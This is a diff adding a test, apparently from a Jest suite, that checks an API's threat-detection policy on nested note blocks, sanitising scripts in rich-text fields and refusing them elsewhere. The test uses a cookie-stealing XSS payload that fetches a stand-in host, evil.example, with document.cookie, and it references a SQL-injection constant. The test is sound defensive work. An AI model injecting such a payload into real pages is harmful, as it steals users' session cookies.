@@ -270,4 +270,37 @@ describe.each(PLATFORMS)('per-field policy in the sample API (%s)', (platform) =
     expect(query.status).toBe(403);
     expect(query.body.code).toBe('THREAT_DETECTED');
   });
+
+  it('applies the policy in nested DTOs: a <script> in blocks[].html (@RichText) is stored sanitised, in blocks[].heading or the query it is refused', async () => {
+    const t = await startApp(platform, { threat: { mode: 'block' } });
+    closing.push(() => t.close());
+    const auth = await bearer(t.app, 'u-alice');
+    const payload = '<p>Agenda: <em>ship it</em></p><script>fetch("//evil.example/?c="+document.cookie)</script>';
+    const note = (blocks: object[]) =>
+      request(t.server).post('/notes').set(auth).send({ title: 'Retro', body: 'x', blocks });
+
+    const created = await note([
+      { heading: 'Intro', html: '<b>plain</b>' },
+      { heading: 'Agenda', html: payload },
+    ]);
+    expect(created.status).toBe(201);
+    expect(created.body.blocks).toHaveLength(2);
+    expect(created.body.blocks[1].heading).toBe('Agenda');
+    expect(created.body.blocks[1].html).toContain('<em>ship it</em>');
+    expect(created.body.blocks[1].html).not.toMatch(/script|fetch|cookie/i);
+
+    // The same payload in the block's @PlainText heading: inspected for everything, refused.
+    const heading = await note([{ heading: payload, html: 'x' }]);
+    expect(heading.status).toBe(403);
+    expect(heading.body.code).toBe('THREAT_DETECTED');
+    // The nested rich-text field is exempt from XSS only: SQL injection in it is refused.
+    expect((await note([{ heading: 'Agenda', html: SQLI }])).status).toBe(403);
+    // The exemption is for that path only: the payload in a query parameter is refused.
+    const query = await request(t.server)
+      .post(`/notes?ref=${encodeURIComponent(payload)}`)
+      .set(auth)
+      .send({ title: 'Retro', body: 'x', blocks: [{ heading: 'Agenda', html: 'x' }] });
+    expect(query.status).toBe(403);
+    expect(query.body.code).toBe('THREAT_DETECTED');
+  });
 });
